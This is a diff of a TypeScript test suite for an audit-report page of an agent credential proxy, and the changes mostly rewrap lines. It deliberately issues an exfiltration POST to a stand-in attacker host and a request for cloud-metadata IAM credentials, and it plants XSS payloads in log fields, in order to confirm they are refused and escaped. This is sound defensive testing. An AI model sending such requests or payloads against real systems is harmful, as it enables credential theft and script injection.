@@ -51,7 +51,9 @@ const refused = [
   await call('http://exfil.attacker.example/collect?d=c2VjcmV0', 'POST'),
   await call('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
 ]
-const adminRefused = (await request(`${sk.adminUrl}/reload`, { method: 'POST', headers: { authorization: 'Bearer guessed' } })).statusCode
+const reload = await request(`${sk.adminUrl}/reload`, { method: 'POST', headers: { authorization: 'Bearer guessed' } })
+await reload.body.dump()
+const adminRefused = reload.statusCode
 await agent.close()
 await sk.app.audit.settled()
 const skKeys = (await (await request(`${sk.adminUrl}/audit-key`)).body.json() as { keys: unknown[] }).keys
@@ -61,12 +63,17 @@ const liveText = sk.log.text
 await sk.app.close()
 const hostile = JSON.stringify({ time: '2026-11-01T00:00:01Z', instance_id: 'agent-a', event: 'credential.used', tool: '<img src=x onerror=alert(1)>', credential_id: null, method: 'GET', host: 'h', path: '/', status: 200 })
 /** Refusals a newer sidekey may write, which the report must show by their outcome without knowing them. */
-const at = (s: number): Record<string, unknown> => ({ level: 30, time: new Date(Date.now() - s * 1000).toISOString(), instance_id: 'agent-b' })
+const at = (s: number): Record<string, unknown> =>
+  ({ level: 30, time: new Date(Date.now() - s * 1000).toISOString(), instance_id: 'agent-b' })
 const newer = [
-  { ...at(900), event: 'credential.used', tool: 'openai', credential_id: null, method: 'POST', host: 'api.openai.com', path: '/v1/chat/completions', status: 429, outcome: 'budget_exhausted' },
-  { ...at(800), event: 'credential.used', tool: 'github', credential_id: null, method: 'DELETE', host: 'api.github.com', path: '/repos/acme/widget', status: 403, outcome: 'approval_timeout' },
-  { ...at(700), event: 'egress.denied', host: '<svg onload=alert(2)>.evil', port: 443, reason: 'no_tool', method: 'CONNECT', requested: '"><img src=x>' },
-  { ...at(600), event: 'anomaly', kind: 'unmatched_destination', tool: null, detail: 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)' },
+  { ...at(900), event: 'credential.used', tool: 'openai', credential_id: null, method: 'POST', host: 'api.openai.com',
+    path: '/v1/chat/completions', status: 429, outcome: 'budget_exhausted' },
+  { ...at(800), event: 'credential.used', tool: 'github', credential_id: null, method: 'DELETE', host: 'api.github.com',
+    path: '/repos/acme/widget', status: 403, outcome: 'approval_timeout' },
+  { ...at(700), event: 'egress.denied', host: '<svg onload=alert(2)>.evil', port: 443, reason: 'no_tool',
+    method: 'CONNECT', requested: '"><img src=x>' },
+  { ...at(600), event: 'anomaly', kind: 'unmatched_destination', tool: null,
+    detail: 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)' },
 ].map((l) => JSON.stringify(l))
 const trail = join(dir, 'audit.log')
 // The synthetic part sealed as sidekey writes it: in a sealed trail, a line without a seal would be left out.
@@ -84,7 +91,8 @@ async function run (args: string[]): Promise<{ code: number, err: string }> {
 }
 
 const out = join(dir, 'report.html')
-const CHARTS = ['age:github', 'age:openai', 'age:slack', 'age:crm', 'age:api', 'uses', 'status', 'denied', 'anomalies', 'refresh-failures', 'refresh-errors', 'inventory']
+const CHARTS = ['age:github', 'age:openai', 'age:slack', 'age:crm', 'age:api', 'uses', 'status', 'denied', 'anomalies',
+  'refresh-failures', 'refresh-errors', 'inventory']
 
 t.test('one self-contained page with every chart, the scopes, tasks, inventory and verify result', async (t) => {
   const r = await run(['--out', out, '--config', config, '--keys', keys, trail])
@@ -93,7 +101,9 @@ t.test('one self-contained page with every chart, the scopes, tasks, inventory a
   const page = await readFile(out, 'utf8')
   t.notMatch(page, /<script|<link|<img|<iframe|<object|\ssrc=["']|\shref=["']|@import|url\(|@font-face/i, 'no script, no external resource, no font')
   for (const id of CHARTS) t.match(page, `data-chart="${id}"`, `chart ${id}`)
-  for (const table of ['scopes', 'tasks', 'inventory', 'denied', 'refused-calls', 'admin-denied', 'anomalies']) t.match(page, `data-table="${table}"`)
+  for (const table of ['scopes', 'tasks', 'inventory', 'denied', 'refused-calls', 'admin-denied', 'anomalies']) {
+    t.match(page, `data-table="${table}"`)
+  }
   t.match(page, /data-verify="intact"/, 'the verify result, against the instances\' keys')
   t.notMatch(page, /data-banner/, 'no banner: every event sealed')
   t.match(page, /3 lines skipped \(1 truncated, 1 not JSON, 1 foreign JSON\)/)
@@ -106,33 +116,37 @@ t.test('one self-contained page with every chart, the scopes, tasks, inventory a
 /** The cells of table `id` in `page`, as text (tags dropped, the report's numeric entities decoded). */
 function tableRows (page: string, id: string): string[][] {
   const table = new RegExp(`<table data-table="${id}">(.*?)</table>`, 's').exec(page)?.[1] ?? ''
-  const text = (cell: string): string => cell.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_m, c: string) => String.fromCharCode(Number(c)))
-  return [...table.matchAll(/<tr>(.*?)<\/tr>/gs)].slice(1).map((r) => [...r[1]!.matchAll(/<td[^>]*>(.*?)<\/td>/gs)].map((c) => text(c[1]!)))
+  const text = (cell: string): string =>
+    cell.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_m, c: string) => String.fromCharCode(Number(c)))
+  const cells = (row: string): string[] => [...row.matchAll(/<td[^>]*>(.*?)<\/td>/gs)].map((c) => text(c[1]!))
+  return [...table.matchAll(/<tr>(.*?)<\/tr>/gs)].slice(1).map((r) => cells(r[1]!))
 }
 
-t.test('refusals and anomalies as a real sidekey wrote them: where the agent tried to go, what was refused, and why', async (t) => {
-  t.same(refused, [403, 403, 403, 403], 'a method the tool does not allow, no placeholder, the exfiltration host, the metadata endpoint')
+t.test('refusals and anomalies as a real sidekey wrote them: where the agent went, what was refused, why', async (t) => {
+  t.same(refused, [403, 403, 403, 403], 'a method the tool does not allow, no placeholder, exfiltration, metadata')
   t.equal(adminRefused, 401)
   const page = await readFile(out, 'utf8')
   const denied = tableRows(page, 'denied')
   t.match(denied, [], 'denied destinations')
-  t.ok(denied.some((r) => r[0] === 'exfil.attacker.example' && r[1] === '80' && r[2] === 'no_tool' && r[3] === '1' && r[6] === 'POST /collect'),
+  const row = (host: string): string[] | undefined => denied.find((r) => r[0] === host)
+  t.match(row('exfil.attacker.example'), ['exfil.attacker.example', '80', 'no_tool', '1', /./, /./, 'POST /collect'],
     'the exfiltration attempt, by host and reason, with what was asked for')
-  t.ok(denied.some((r) => r[0] === '169.254.169.254' && r[2] === 'no_tool' && r[6] === 'GET /latest/meta-data/iam/security-credentials/' &&
-    r[7] === 'cloud metadata endpoint'), 'the metadata endpoint, flagged')
-  t.ok(denied.some((r) => r[0] === '<svg onload=alert(2)>.evil' && r[6] === 'CONNECT "><img src=x>'), 'a hostile host, shown as text')
+  t.match(row('169.254.169.254'), ['169.254.169.254', '80', 'no_tool', '1', /./, /./,
+    'GET /latest/meta-data/iam/security-credentials/', 'cloud metadata endpoint'], 'the metadata endpoint, flagged')
+  t.match(row('<svg onload=alert(2)>.evil'), { 6: 'CONNECT "><img src=x>' }, 'a hostile host, shown as text')
   t.notMatch(page, 'c2VjcmV0', 'the query the agent tried to carry out is not in the report')
   const calls = tableRows(page, 'refused-calls').map((r) => r.slice(0, 5).join(' '))
-  for (const row of ['api method_denied DELETE absent 1', 'files placeholder_required PUT absent 1', 'openai budget_exhausted POST  1', 'github approval_timeout DELETE  1']) {
-    t.ok(calls.includes(row), row)
-  }
-  t.same(tableRows(page, 'admin-denied').map((r) => r.slice(0, 4)), [['/reload', 'unauthorized', '127.0.0.1', '1']], 'the admin refusal, by address')
+  for (const line of ['api method_denied DELETE absent 1', 'files placeholder_required PUT absent 1',
+    'openai budget_exhausted POST  1', 'github approval_timeout DELETE  1']) t.ok(calls.includes(line), line)
+  t.same(tableRows(page, 'admin-denied').map((r) => r.slice(0, 4)), [['/reload', 'unauthorized', '127.0.0.1', '1']],
+    'the admin refusal, by address')
   t.match(page, /At a glance: \d+ refused \(3 destinations, 4 calls, 1 admin requests\)/)
   const anomalies = tableRows(page, 'anomalies')
-  t.ok(anomalies.some((r) => r[1] === 'unmatched_destination' && r[2] === '-' && r[3] === 'report-1' && r[4] === 'POST exfil.attacker.example:80 denied (no_tool)'),
-    'the exfiltration attempt as an anomaly, with its instance and detail')
-  t.ok(anomalies.some((r) => r[1] === 'method_denied' && r[2] === 'api' && /^DELETE \/v1\/items\/\S+ refused: method not allowed/.test(r[4]!)), 'the refused method')
-  t.ok(anomalies.some((r) => r[4] === 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)'), 'a hostile detail, shown as text')
+  const exfil = anomalies.find((r) => r[4] === 'POST exfil.attacker.example:80 denied (no_tool)')
+  t.match(exfil, [/./, 'unmatched_destination', '-', 'report-1'], 'the exfiltration attempt as an anomaly')
+  t.match(anomalies.find((r) => r[1] === 'method_denied'), [/./, 'method_denied', 'api', 'report-1',
+    /^DELETE \/v1\/items\/\S+ refused: method not allowed/], 'the refused method')
+  t.ok(anomalies.some((r) => r[4] === 'CONNECT <svg onload=alert(3)>:443 denied (no_tool)'), 'a hostile detail')
   t.ok(anomalies.length <= 100, 'the latest 100 at most')
   const times = anomalies.map((r) => r[0]!)
   t.same(times, [...times].sort().reverse(), 'newest first')
@@ -149,14 +163,14 @@ t.test('a live trail: its open run is not NOT INTACT with --live, and --keys may
   t.equal((await run(['--out', liveOut, '--keys', keyFile, live])).code, 0)
   const asIf = await readFile(liveOut, 'utf8')
   t.match(asIf, /data-verify="broken"/, 'without --live the open run\'s tail cannot be vouched for')
-  t.match(asIf, /data-hint="live">A run ends after its last checkpoint: if the trail is still being written, run again with --live/)
+  t.match(asIf, /data-hint="live">A run ends after its last checkpoint: if the trail is still being written, run/)
   const r = await run(['--out', liveOut, '--live', '--keys', otherKeys, `--keys=${keyFile}`, live])
   t.equal(r.code, 0, r.err)
   const page = await readFile(liveOut, 'utf8')
   t.match(page, /data-verify="intact">intact \(--live: the newest run of each instance may still be open\)/)
   t.notMatch(page, /NOT INTACT|data-hint|data-banner/)
-  t.match(page, /runs still open \(--live\) follow their last checkpoint: not yet vouched for/, 'the pending lines are named')
-  t.equal((await run(['--out', liveOut, '--keys', join(dir, 'missing.jwks'), live])).code, 2, 'keys that cannot be read')
+  t.match(page, /runs still open \(--live\) follow their last checkpoint: not yet vouched for/, 'pending lines named')
+  t.equal((await run(['--out', liveOut, '--keys', join(dir, 'missing.jwks'), live])).code, 2, 'keys not readable')
 })
 
 t.test('a chart with nothing to draw says so, with no axis at 1970-01-01', async (t) => {
@@ -167,7 +181,9 @@ t.test('a chart with nothing to draw says so, with no axis at 1970-01-01', async
   const page = await readFile(quietOut, 'utf8')
   t.notMatch(page, '1970-01-01')
   for (const id of ['anomalies', 'refresh-failures', 'refresh-errors']) {
-    t.match(page, new RegExp(`data-chart="${id}"><figcaption>[^<]*</figcaption><svg [^>]*aria-label="[^"]*: no data"><title>[^<]*</title><text[^>]*>no data</text></svg>`), id)
+    const figure = `data-chart="${id}"><figcaption>[^<]*</figcaption>`
+    const svg = '<svg [^>]*aria-label="[^"]*: no data"><title>[^<]*</title><text[^>]*>no data</text></svg>'
+    t.match(page, new RegExp(figure + svg), id)
   }
   t.match(page, /<h2 id="refusals">Refusals<\/h2><p>Nothing was refused/)
 })
@@ -202,21 +218,28 @@ t.test('events without a seal in a sealed trail: left out, counted, and a red ba
  */
 const LAYOUT = `(() => {
   const width = document.documentElement.clientWidth
-  const name = (e) => e.tagName.toLowerCase() + (e.dataset.chart ? '[' + e.dataset.chart + ']' : e.dataset.table ? '[' + e.dataset.table + ']' : '')
-  const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > width + 0.5).map(name)
-  const unlabelled = [...document.querySelectorAll('svg')].filter((s) => !s.getAttribute('aria-label') || !s.querySelector(':scope > title')?.textContent)
-    .map((s) => name(s.closest('figure')))
+  const name = (e) => e.tagName.toLowerCase() +
+    (e.dataset.chart ? '[' + e.dataset.chart + ']' : e.dataset.table ? '[' + e.dataset.table + ']' : '')
+  const wide = [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > width + 0.5)
+  const labelled = (s) => s.getAttribute('aria-label') && s.querySelector(':scope > title')?.textContent
+  const unlabelled = [...document.querySelectorAll('svg')].filter((s) => !labelled(s))
   const clipped = [...document.querySelectorAll('svg text')].filter((t) => {
     const b = t.getBBox(); const v = t.ownerSVGElement.viewBox.baseVal
     return b.x < -0.5 || b.y < -0.5 || b.x + b.width > v.width + 0.5 || b.y + b.height > v.height + 0.5
-  }).map((t) => name(t.closest('figure')) + ': ' + t.textContent)
-  const scrolled = [...document.querySelectorAll('pre, td, p')].filter((e) => e.scrollWidth > e.clientWidth + 1).map(name)
+  })
+  const scrolled = [...document.querySelectorAll('pre, td, p')].filter((e) => e.scrollWidth > e.clientWidth + 1)
   const dots = [...document.querySelectorAll('figure[data-chart="anomalies"] circle')]
-  const timeline = document.querySelector('figure[data-chart="anomalies"]').getBoundingClientRect()
-  const table = document.querySelector('table[data-table="anomalies"]').getBoundingClientRect()
-  return { scrollWidth: document.documentElement.scrollWidth, width, viewport: innerWidth, wide, unlabelled, clipped, scrolled,
-    dots: dots.length, untitled: dots.filter((c) => !/^\\S+ at \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d: \\d+$/.test(c.querySelector('title')?.textContent ?? '')).length,
-    beside: table.left >= timeline.right && table.top < timeline.bottom }
+  const tooltip = /^\\S+ at \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d: \\d+$/
+  const timeline = document.querySelector('figure[data-chart="anomalies"]')?.getBoundingClientRect()
+  const table = document.querySelector('table[data-table="anomalies"]')?.getBoundingClientRect()
+  return {
+    scrollWidth: document.documentElement.scrollWidth, width, viewport: innerWidth, wide: wide.map(name),
+    unlabelled: unlabelled.map((s) => name(s.closest('figure'))),
+    clipped: clipped.map((t) => name(t.closest('figure')) + ': ' + t.textContent), scrolled: scrolled.map(name),
+    dots: dots.length, untitled: dots.filter((c) => !tooltip.test(c.querySelector('title')?.textContent ?? '')).length,
+    beside: table !== undefined && timeline !== undefined &&
+      table.left >= timeline.right && table.top < timeline.bottom,
+  }
 })()`
 
 interface Layout {
@@ -233,7 +256,8 @@ interface Layout {
   beside: boolean
 }
 
-t.test('rendered by headless chromium at 1400 px and at a phone\'s 390 px: labelled, nothing wider than the page', { skip: chromium.skip }, async (t) => {
+const rendered = 'rendered by headless chromium at 1400 px and at a phone\'s 390 px: labelled, nothing wider than it'
+t.test(rendered, { skip: chromium.skip }, async (t) => {
   if (!needBinary(t, chromium)) return
   const page = await openPage(chromium.path!, pathToFileURL(out).href)
   t.teardown(() => page.close())
@@ -253,9 +277,11 @@ t.test('rendered by headless chromium at 1400 px and at a phone\'s 390 px: label
     t.same(layout.scrolled, [], `${width} px: no text cut in a scrolling box (the integrity result included)`)
     t.ok(layout.dots > 0, 'anomalies on the timeline')
     t.equal(layout.untitled, 0, 'every dot names its kind, time and count')
-    t.equal(layout.beside, beside, beside ? 'the anomaly table beside its timeline' : 'the table below the timeline on a phone')
+    t.equal(layout.beside, beside, beside ? 'the anomaly table beside its timeline' : 'the table below it on a phone')
     const shot = process.env.SIDEKEY_REPORT_SCREENSHOT
-    if (shot !== undefined) await writeFile(mobile ? shot.replace(/\.png$/, '-phone.png') : shot, await page.screenshot())
+    if (shot !== undefined) {
+      await writeFile(mobile ? shot.replace(/\.png$/, '-phone.png') : shot, await page.screenshot())
+    }
   }
   t.same(page.errors, [], 'no console error')
 })
